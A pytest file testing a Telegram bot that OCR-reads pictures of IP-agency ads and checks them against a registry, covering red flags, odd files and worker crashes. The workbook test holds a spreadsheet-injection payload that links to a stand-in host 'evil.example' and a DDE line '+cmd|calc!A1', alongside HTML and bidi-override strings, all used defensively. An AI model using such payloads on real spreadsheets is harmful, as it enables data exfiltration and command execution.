"""A hostile look at checking a picture (issue 15): odd files, the identities compared, red flags,
markup in what is read, the leads workbook, and the bot's handling of a picture, its offer to
report and its worker process. Failing tests name a defect: where it is, what happens, what
should. Few pictures are read (about a second each); most cases check the read text directly."""

from __future__ import annotations

import asyncio
import hashlib
import io
import logging
import os
import signal
import time
from html import escape
from pathlib import Path
from typing import Any

import pytest
import sqlite_utils
from click.testing import CliRunner
from openpyxl import load_workbook
from PIL import Image, ImageDraw

from bot.cli import cli
from bot.errors import Refusal
from bot.leads import Lead, write_workbook
from bot.localapi.server import LocalBotApi
from bot.localapi.users import photo_sizes
from bot.ocr import NotAPicture, ReadText, read_picture
from bot.picture_check import PictureVerdict, check_picture_text
from bot.picture_reader import PictureReader
from bot.render import picture_text
from bot.telegram.cards import TELEGRAM_LIMIT, split_message
from bot.telegram.context import Deps
from bot.telegram.runner import LOCAL_TOKEN
from bot.words.chat import TEXTS as CHAT_WORDS
from tests.bot_harness import (
    BOT_TODAY,
    DEFAULT_LIMITS,
    bot_settings,
    person,
    running_tracked,
    settled,
)
from tests.pictures import font, picture

TODAY = BOT_TODAY
HUAYUE = "上海华岳知识产权代理有限公司"  # registered, active, phones 021-61234567, 13916627788
LANTAO_PHONE = "021-65430876"  # another registered firm's phone
LANQIAO = "上海蓝桥专利代理有限公司"  # registered, licence revoked: danger
GENERIC_ERROR = CHAT_WORDS["error"][0]
NOT_A_PICTURE = "不是可以识别的图片"


def verdict(db: sqlite_utils.Database, text: str) -> PictureVerdict:
    return check_picture_text(db, text, today=TODAY)


def encoded(image: Image.Image, fmt: str, **options: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def written(text: str, size: tuple[int, int] = (1000, 200)) -> Image.Image:
    """`text` in black on a transparent background, as a logo or an exported ad is."""
    image = Image.new("RGBA", size, (0, 0, 0, 0))
    ImageDraw.Draw(image).text((30, 60), text, font=font(48), fill=(0, 0, 0, 255))
    return image


def blank_png() -> bytes:
    """A picture with no text: read in a fraction of a second."""
    return encoded(Image.new("RGB", (320, 240), (250, 250, 246)), "PNG")


def strip_png() -> bytes:
    """A 1 x 60000 strip: 60,000 pixels, far under the pixel cap."""
    return encoded(Image.new("RGB", (1, 60000), "white"), "PNG")


# The identities compared ------------------------------------------------------------------


def test_a_registered_name_with_another_firms_phone_is_never_ok(db: sqlite_utils.Database) -> None:
    for phone in ("021-68889999", LANTAO_PHONE):  # unregistered; another registered firm's
        answer = verdict(db, f"{HUAYUE}\n电话：{phone}")
        assert answer.level != "ok", phone
        assert answer.overall is not None and answer.overall.headline_key == "mismatch"


def test_a_picture_holding_two_registered_firms_is_not_ok(db: sqlite_utils.Database) -> None:
    answer = verdict(db, f"{HUAYUE}\n上海澜涛知识产权代理有限公司")
    assert answer.level != "ok"


def test_a_revoked_firms_card_is_danger_even_beside_a_good_name(db: sqlite_utils.Database) -> None:
    assert verdict(db, f"{LANQIAO}\n电话 021-56781234").level == "danger"
    assert verdict(db, f"{HUAYUE}\n{LANQIAO}").level == "danger"
    only_phone = verdict(db, "咨询 021-61234567")  # a registered firm's phone alone
    assert only_phone.level == "ok" and only_phone.identities[0].match is not None


def test_a_revoked_firm_read_after_twelve_other_identities_still_makes_the_picture_danger(
    db: sqlite_utils.Database,
) -> None:
    """Fixed defect (was:
    bot/picture_check.py:186 and :206-209: only the first MOST_IDENTITIES (12)
    identities are checked on their own, and the comparison joins only as many as fit in
    MAX_QUERY (200) characters, so a 13th identity is never looked at. A shop page listing
    twelve web addresses and then a revoked firm's name is 'unknown' (nothing registered), the
    revoked firm unmentioned. Every identity read should reach the level (at least those not
    shown should be looked up for the level, or the card should say some were not checked)."""
    text = "\n".join(f"网址 www.shop{n}.example" for n in range(12)) + f"\n{LANQIAO}"
    assert verdict(db, text).level == "danger"


def test_a_firm_named_at_the_start_of_a_sentence_is_checked(db: sqlite_utils.Database) -> None:
    """Fixed defect (was:
    bot/picture_check.py:176-178: a name is taken only when bot.query_reading.read
    sees the line's stretch as a name; a flyer's '上海蓝桥专利代理有限公司竭诚为您服务' (the
    name run into the sentence, as ads write it) yields no identity and the picture of a
    revoked firm is 'unknown / nothing read'. The name ending in 有限公司 should be cut out
    of the sentence and checked: danger."""
    answer = verdict(db, f"{LANQIAO}竭诚为您服务")
    assert LANQIAO in [v.query for v in answer.identities]
    assert answer.level == "danger"


def test_a_firm_named_past_the_200th_character_of_a_line_is_checked(
    db: sqlite_utils.Database,
) -> None:
    """Fixed defect (was:
    bot/picture_check.py:173: each line is cut to MAX_QUERY (200) characters
    before its identities are read, so a revoked firm named late in a long line (a pasted
    page, a wide screenshot read as one line) is dropped: 'nothing read'. The cut belongs
    to one query, not to the text a picture holds; long lines should be read in pieces."""
    answer = verdict(db, "商标注册专利申请版权登记，" * 17 + LANQIAO)
    assert answer.level == "danger"


# Red flags --------------------------------------------------------------------------------


def test_an_honest_disclaimer_of_promises_raises_no_red_flag(db: sqlite_utils.Database) -> None:
    """Fixed defect (was:
    bot/red_flags.py:157-159: phrases are matched with no regard for a negation
    before them, so an honest registered firm's '本所郑重声明：不承诺包过，不保证授权' is
    flagged as a promise of approval and the card turns caution (and 🚨 would prefill
    不正当招揽 against it). A phrase preceded by 不/绝不/从不/不承诺 should not count."""
    answer = verdict(db, f"{HUAYUE}\n本所郑重声明：不承诺包过，不保证授权")
    assert answer.red_flags == ()
    assert answer.level == "ok"


def test_words_on_two_lines_of_a_picture_are_not_one_red_flag(db: sqlite_utils.Database) -> None:
    """Fixed defect (was:
    bot/state_organs.py:98 (GAP holds \\s, newlines included) as used by
    bot/red_flags.py:169: the letters of a phrase may be spread over two lines the OCR read as
    separate boxes, so '面包' at the end of one line and '过期' starting the next make a
    '包过' promise. A gap inside a phrase should not cross a line break."""
    assert verdict(db, "进口面包\n过期商品打折").red_flags == ()


def test_a_registered_firm_pointing_to_cnipas_site_is_not_called_an_impersonator(
    db: sqlite_utils.Database,
) -> None:
    """Fixed defect (was:
    bot/red_flags.py:155-156 with picture_check.py:144 (official -> danger): any
    mention of the organ outside the few CITED_AFTER words is 'posing', so a registered
    firm's honest card saying '请到国家知识产权局官网核实我所备案信息' is answered danger
    '自称国家机关或官方的代理是冒充'. Pointing people to the organ's site is what honest firms
    (and the campaign) do; a mention is not a claim to be the organ."""
    answer = verdict(db, f"{HUAYUE}\n请到国家知识产权局官网核实我所备案信息")
    assert [flag.kind for flag in answer.red_flags] == []
    assert answer.level == "ok"


# What is read, shown: markup, length, a fake verdict, a workbook --------------------------


def test_a_card_of_200_lines_with_markup_is_split_into_messages_telegram_takes(
    db: sqlite_utils.Database,
) -> None:
    lines = ["✅ 合规 已登记 未发现不良记录", "<b>bold</b> & </code> <a href='x'>", "\u202eevil"]
    lines += [f"第{n}行 & <i>{'长' * 30}</i>" for n in range(200)]
    answer = verdict(db, "\n".join(lines) + f"\n{LANQIAO}")
    card = picture_text(answer, "zh")
    parts = split_message(escape(card))  # as bot/telegram/picture_handlers.py:354 sends it
    assert len(parts) > 1 and all(len(part) <= TELEGRAM_LIMIT for part in parts)
    sent = "\n".join(parts)
    assert "<b>" not in sent and "&lt;b&gt;" in sent and "\u202e" not in sent
    for part in parts:  # no entity cut in two at a message's edge
        assert not part.rstrip().endswith(("&", "&a", "&am", "&amp", "&l", "&lt", "&g", "&gt"))
    first = card.splitlines()[0]
    assert "✅" not in first  # the fake verdict is only ever quoted under its label
    assert card.index("图片中读到的文字") < card.index("✅ 合规")


def test_a_formula_read_from_a_picture_stays_text_in_the_leads_workbook(
    db: sqlite_utils.Database, tmp_path: Path
) -> None:
    text = f'=HYPERLINK("http://evil.example/?"&A1,"{HUAYUE}")\n+cmd|calc!A1\n{HUAYUE}'
    leads = [
        Lead("=HYPERLINK(1).png", verdict(db, text)),
        Lead("@SUM(1).png", None, "-1+1"),
    ]
    out = tmp_path / "leads.xlsx"
    write_workbook(leads, out, "zh")
    book = load_workbook(out)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any("HYPERLINK" in str(c.value) for c in cells)


# Odd files ---------------------------------------------------------------------------------


def test_files_that_are_no_pictures_are_refused_plainly() -> None:
    jpeg = picture(["测试"], "card")
    for data in (
        jpeg[: len(jpeg) // 2],  # truncated
        b"",
        '<svg xmlns="http://www.w3.org/2000/svg"><text>包过</text></svg>'.encode(),
        "<html><body>包过</body></html>".encode(),
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF",
        b"PK\x03\x04" + b"\x00" * 100,
    ):
        with pytest.raises(NotAPicture):
            read_picture(data)


def test_odd_but_real_pictures_are_read_without_error() -> None:
    page = Image.new("RGB", (320, 240), (250, 250, 246))
    frames = [page, Image.new("RGB", (320, 240), (10, 10, 10))]
    palette = page.convert("P")
    odd = [
        encoded(page.convert("CMYK"), "JPEG"),
        encoded(page.convert("I;16"), "PNG"),
        encoded(palette, "PNG", transparency=0),
        encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100),
        encoded(frames[0], "TIFF", save_all=True, append_images=frames[1:] * 20),
    ]
    for data in odd:
        assert isinstance(read_picture(data), ReadText)


def test_a_thin_strip_gets_a_plain_answer() -> None:
    """Fixed defect (was:
    bot/ocr.py:61-81 (no floor on the short side) and :110-112: a 1 x 60000 PNG
    (60,000 pixels, within every cap) is thumbnailed to 1 x 2400 and the detector's resize
    raises rapidocr's ResizeImgError, which is no Refusal: `lantian check --image` prints a
    traceback, `leads scan` stops (next test), and the bot answers the generic
    '处理时出了问题' (test_a_thin_strip_sent_to_the_bot_is_answered_plainly). A picture too
    thin to hold text should be refused as one (a Refusal) or read as holding no text."""
    try:
        read = read_picture(strip_png())
    except Refusal as refused:
        assert refused.message("zh")
    else:
        assert read.text == ""


def test_one_unreadable_strip_does_not_stop_a_leads_scan(tmp_path: Path, db_path: Path) -> None:
    """Fixed defect (was:
    bot/leads.py:221-225: scan catches only Refusal, so the strip above ends
    `lantian leads scan` with ResizeImgError and no workbook for the rest of the folder.
    Each file that cannot be read should be a row saying why (as the docstring promises)."""
    folder = tmp_path / "shots"
    folder.mkdir()
    (folder / "a-strip.png").write_bytes(strip_png())
    (folder / "b-empty.jpg").write_bytes(b"")
    out = tmp_path / "leads.xlsx"
    result = CliRunner().invoke(
        cli, ["leads", "scan", str(folder), "--out", str(out), "--db", str(db_path)]
    )
    assert result.exit_code == 0, repr(result.exception)
    rows = list(load_workbook(out).worksheets[0].iter_rows(values_only=True))
    assert [row[0] for row in rows[1:]] == ["a-strip.png", "b-empty.jpg"]


def test_a_transparent_png_with_dark_text_is_read() -> None:
    """Fixed defect (was:
    bot/ocr.py:76: `convert("RGB")` drops the alpha channel, so a PNG with black
    text on a transparent background (exported ads, logos, stickers) becomes all black and
    nothing is read: the card says 'nothing read'. An image with transparency should be
    laid on white before it is read (Image.alpha_composite on a white RGBA)."""
    assert "蓝桥" in read_picture(encoded(written(LANQIAO), "PNG")).text


def test_a_phone_photo_turned_by_its_exif_is_read() -> None:
    upright = Image.open(io.BytesIO(picture([LANQIAO, "电话 021-56781234"], "card")))
    stored = upright.rotate(90, expand=True)  # the sensor's way up; EXIF 6 turns it back
    exif = Image.Exif()
    exif[0x0112] = 6
    text = read_picture(encoded(stored, "JPEG", exif=exif.tobytes())).text
    assert "蓝桥" in text and "56781234" in text


# The bot -------------------------------------------------------------------------------------

OFFICIAL_FLYER = [
    "国家知识产权局指定代理机构",
    "商标注册 包过！不成功全额退款",
    "电话 021-68889999",
]
WRITES: list[str] = []  # paths opened for writing while a test records them
RECORDING: list[bool] = []


def _note_writes(event: str, args: tuple[Any, ...]) -> None:
    if not RECORDING or event != "open" or not isinstance(args[0], (str, bytes, os.PathLike)):
        return
    path, mode, flags = args
    writing = os.O_WRONLY | os.O_RDWR | os.O_CREAT
    if (mode and any(c in mode for c in "wax+")) or (mode is None and flags & writing):
        WRITES.append(os.fsdecode(path))


def texts_to(api: LocalBotApi, uid: int) -> list[str]:
    return [r.get("text") or "" for r in api.sent_messages(LOCAL_TOKEN, uid)]


def deps_of(app: Any) -> Deps:
    deps: Deps = app.bot_data["deps"]
    return deps


def files_under(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


@pytest.mark.asyncio
async def test_a_picture_is_kept_only_as_evidence_and_its_offer_outlives_a_restart(
    api: LocalBotApi,
    settings: Any,
    db: sqlite_utils.Database,
    caplog: pytest.LogCaptureFixture,
) -> None:
    import sys

    sys.addaudithook(_note_writes)  # cheap when not recording; hooks cannot be removed
    caplog.set_level(logging.INFO)
    photo = picture(OFFICIAL_FLYER, "card")
    data_dir = Path(settings.data_dir)
    async with running_tracked(settings, db, api) as app:
        alice = person(api, 861)
        RECORDING.append(True)
        try:
            api.user_sends_photo(LOCAL_TOKEN, alice.user, photo, caption="这家靠谱吗？")
            await alice.replies(2, timeout=40)
        finally:
            RECORDING.clear()
        card = alice.text()
        assert "021-68889999" in card and "包过" in card
        deps_of(app).picture_reader.close()
    database = str(settings.db)  # the registry and its lock (a scheduled job's), not the picture
    assert files_under(data_dir) == []  # not kept
    assert [path for path in WRITES if not path.startswith(database)] == []  # nor anywhere
    assert "021-68889999" not in caplog.text and "包过" not in caplog.text
    async with running_tracked(settings, db, api):  # the bot restarted: the offer is kept
        await alice.presses("用这张图片举报", count=2)
        said = alice.text()
        assert "已把图片作为证据附上" in said and "假冒国家机关" in said  # the gravest flag's
        [stored] = files_under(data_dir / "evidence")
        sha = hashlib.sha256(photo).hexdigest()
        assert (
            stored.name.startswith(sha) and hashlib.sha256(stored.read_bytes()).hexdigest() == sha
        )
        await alice.says("/cancel")
        assert files_under(data_dir / "evidence") == []  # abandoned: the picture goes too
        await alice.presses("用这张图片举报", count=2)  # the offer stands: a report afresh
        assert "已把图片作为证据附上" in alice.text()
        assert len(files_under(data_dir / "evidence")) == 1


@pytest.mark.asyncio
async def test_files_that_are_no_pictures_and_group_photos_get_plain_answers(
    running: LocalBotApi,
) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>包过</text></svg>'.encode()
    sent = {
        871: ("ad.jpg", svg, "image/jpeg"),
        872: ("empty.png", b"", "image/png"),
        873: ("page.jpg", b"<html>x</html>", "image/jpeg"),
    }
    for uid, (name, data, mime) in sent.items():
        running.user_sends_document(LOCAL_TOKEN, person(running, uid).user, data, name, mime)
    group = {"id": -100777, "type": "supergroup", "title": "商标交流群"}
    stored = running.bot(LOCAL_TOKEN).store_file(picture(["包过"]), "photos", ".jpg")
    state = running.bot(LOCAL_TOKEN)
    state.last_update_id += 1
    message = {
        "message_id": 1, "from": person(running, 874).user.to_api(), "chat": group,
        "date": int(time.time()), "photo": photo_sizes(stored),
    }  # fmt: skip
    running.deliver_raw_update(LOCAL_TOKEN, {"update_id": state.last_update_id, "message": message})
    await settled(running)
    for uid in sent:
        said = "\n".join(texts_to(running, uid))
        assert NOT_A_PICTURE in said and GENERIC_ERROR not in said, uid
    assert running.sent_messages(LOCAL_TOKEN, -100777) == []  # a group's photo is not read


@pytest.mark.asyncio
async def test_a_thin_strip_sent_to_the_bot_is_answered_plainly(running: LocalBotApi) -> None:
    """Fixed defect (was:
    (see test_a_thin_strip_gets_a_plain_answer): in the bot the ResizeImgError
    comes back from the worker (bot/picture_reader.py:275-278 sends back only Refusals) and
    escapes check_picture (bot/telegram/picture_handlers.py:339-343 catches only Refusal):
    the user gets the generic '抱歉，处理时出了问题' and the maintainers a crash report."""
    dave = person(running, 881)
    running.user_sends_document(LOCAL_TOKEN, dave.user, strip_png(), "long.png", "image/png")
    await settled(running)
    said = "\n".join(texts_to(running, 881))
    assert GENERIC_ERROR not in said


@pytest.mark.asyncio
async def test_a_picture_sent_as_a_file_without_an_image_mime_is_read(
    running: LocalBotApi,
) -> None:
    """Held, as far as the local server models Telegram: a declared octet-stream is guessed
    from the name (bot/localapi/media.py:48-52), so the .jpg reaches the picture handler.
    A client that declared another non-image type would reach the list handler instead
    (bot/telegram/app.py:194 routes by MIME alone): worth a suffix check there too."""
    erin = person(running, 882)
    photo = encoded(Image.new("RGB", (320, 240), (250, 250, 246)), "JPEG")
    octets = "application/octet-stream"
    running.user_sends_document(LOCAL_TOKEN, erin.user, photo, "flyer.jpg", octets)
    await erin.replies(1, timeout=20)
    assert "正在识别" in erin.text()


@pytest.mark.asyncio
async def test_pressing_the_offer_twice_keeps_the_report_going(
    running: LocalBotApi, settings: Any
) -> None:
    """Fixed defect (was:
    bot/telegram/report_handlers.py:124-126 with :794 and allow_reentry (:801): the
    offer is an entry point, so a second tap on 🚨 (a double tap, or the card pressed again
    later) re-enters, finds the offer spent, says '这张图片已过期' and returns END: the report
    just started is dropped without a word (its category buttons then only toast '已过期')
    and the picture stays stored as the evidence of a draft nobody can finish. A press of a
    spent offer while its report is under way should leave the report at its step."""
    frank, mallory = person(running, 883), person(running, 884)
    await mallory.says("/help")  # a forged press with no picture offered
    running.user_presses_button(
        LOCAL_TOKEN, mallory.user, mallory.last[-1]["message_id"], "picrep", forged=True
    )
    await mallory.replies()
    assert "已过期" in mallory.text()
    running.user_sends_photo(LOCAL_TOKEN, frank.user, blank_png())
    await frank.replies(2, timeout=40)
    await frank.presses("用这张图片举报", count=2)  # attached; which category?
    assert "已把图片作为证据附上" in frank.text()
    categories = frank.last[-1]["message_id"]
    await frank.presses("用这张图片举报")  # a double tap on the same card
    [data] = [
        button["callback_data"]
        for record in running.sent_messages(LOCAL_TOKEN, 883)
        if record["message_id"] == categories
        for row in record["message"]["reply_markup"]["inline_keyboard"]
        for button in row
        if "不正当招揽" in button["text"]
    ]
    running.user_presses_button(LOCAL_TOKEN, frank.user, categories, data)
    await settled(running)
    assert "涉及哪家机构" in texts_to(running, 883)[-1]  # the report went on to its next step


@pytest.mark.asyncio
async def test_a_flood_of_photos_is_read_at_most_to_the_cap_and_others_are_still_read(
    api: LocalBotApi, tmp_path: Path, db_path: Path, db: sqlite_utils.Database
) -> None:
    settings = bot_settings(tmp_path, db_path, **DEFAULT_LIMITS)
    async with running_tracked(settings, db, api) as app:
        flooder, other = person(api, 891), person(api, 892)
        reads = 0
        reader = deps_of(app).picture_reader
        original = reader.read

        async def counted(data: bytes) -> ReadText:
            nonlocal reads
            reads += 1
            return await original(data)

        reader.read = counted  # type: ignore[method-assign]
        photo = blank_png()
        for _ in range(50):
            api.user_sends_photo(LOCAL_TOKEN, flooder.user, photo)
        api.user_sends_photo(LOCAL_TOKEN, other.user, photo)
        await other.replies(2, timeout=40)
        await settled(api)
        reader.close()
    said = texts_to(api, 891)
    assert reads == 3  # the flooder's burst of two, and the other user's one
    assert sum("正在识别" in s for s in said) == 2  # then told once, and once by the flood gate
    assert len(said) == 6 and "太快" in said[-2] and "太快" in said[-1], said
    assert "图片中没有读到" in other.text()


@pytest.mark.asyncio
async def test_a_reader_whose_worker_was_killed_reads_the_next_picture() -> None:
    """Fixed defect (was:
    bot/picture_reader.py:253 and :261-265: when the worker process dies (killed,
    or out of memory on a hostile picture) run_in_executor raises BrokenProcessPool, and the
    broken pool stays in self._pool: every later picture fails at once with
    BrokenProcessPool, for every user, until the bot restarts. A broken pool should be
    dropped (self._pool = None) so that the next read spawns a new worker."""
    reader = PictureReader()
    try:
        reading = asyncio.ensure_future(reader.read(picture([LANQIAO], "card")))
        pid = await eventually_worker(reader)
        os.kill(pid, signal.SIGKILL)
        with pytest.raises(Exception):  # noqa: B017  (what it raises is the next test's matter)
            await reading
        assert isinstance(await reader.read(blank_png()), ReadText)
    finally:
        reader.close()


@pytest.mark.asyncio
async def test_the_user_is_told_plainly_when_the_worker_dies(running: LocalBotApi) -> None:
    """Fixed defect (was:
    bot/telegram/picture_handlers.py:339-343: BrokenProcessPool is no Refusal, so a
    picture whose worker died is answered with the generic '抱歉，处理时出了问题，已通知维护
    人员' (and a crash report), and with the pool never rebuilt (previous test) so is every
    later picture. The user should be told plainly that the picture could not be read this
    time and to send it again (a Refusal raised by PictureReader.read)."""
    gina = person(running, 893)
    app = next(iter(running_apps()))
    running.user_sends_photo(LOCAL_TOKEN, gina.user, picture([LANQIAO], "card"))
    await gina.replies(1, timeout=20)  # reading…
    os.kill(await eventually_worker(deps_of(app).picture_reader), signal.SIGKILL)
    await gina.replies(1, timeout=20)
    assert GENERIC_ERROR not in gina.text()


async def eventually_worker(reader: PictureReader) -> int:
    """The pid of the reader's worker process, once it has been spawned."""
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        pool = reader._pool  # its process is what is attacked
        processes = getattr(pool, "_processes", None) or {}
        if processes:
            return int(next(iter(processes)))
        await asyncio.sleep(0.01)
    raise AssertionError("no worker process was spawned")


def running_apps() -> set[Any]:
    from tests.bot_harness import RUNNING

    return RUNNING


@pytest.mark.asyncio
async def test_a_picture_file_with_a_non_standard_image_type_can_become_a_report(
    running: LocalBotApi,
) -> None:
    """Fixed defect (was:
    bot/telegram/picture_handlers.py:350 with report_handlers.py:133: the offer
    keeps the MIME type the client declared, filters.Document.IMAGE lets any image/* in and
    bot.ocr reads it by its content, but evidence.store accepts only its own list
    (bot/reports/evidence.py:36-56, 147-154): a JPEG declared 'image/jpg' (as some Android
    apps send) is read and carded, then 🚨 raises EvidenceTypeRefused, unhandled; the press
    was answered already (report_handlers.py:122), so on_error's toast is refused by
    Telegram ('query is too old') and the user is told nothing at all. The offer should
    carry the type the picture was read as (image/jpeg from Pillow's format), or a refusal
    be answered plainly."""
    hank = person(running, 894)
    photo = encoded(Image.new("RGB", (320, 240), (250, 250, 246)), "JPEG")
    running.user_sends_document(LOCAL_TOKEN, hank.user, photo, "flyer.jpg", "image/jpg")
    await hank.replies(2, timeout=40)
    card = hank.last[-1]["message_id"]
    running.user_presses_button(LOCAL_TOKEN, hank.user, card, "picrep")
    await settled(running)
    assert "已把图片作为证据附上" in "\n".join(texts_to(running, 894))
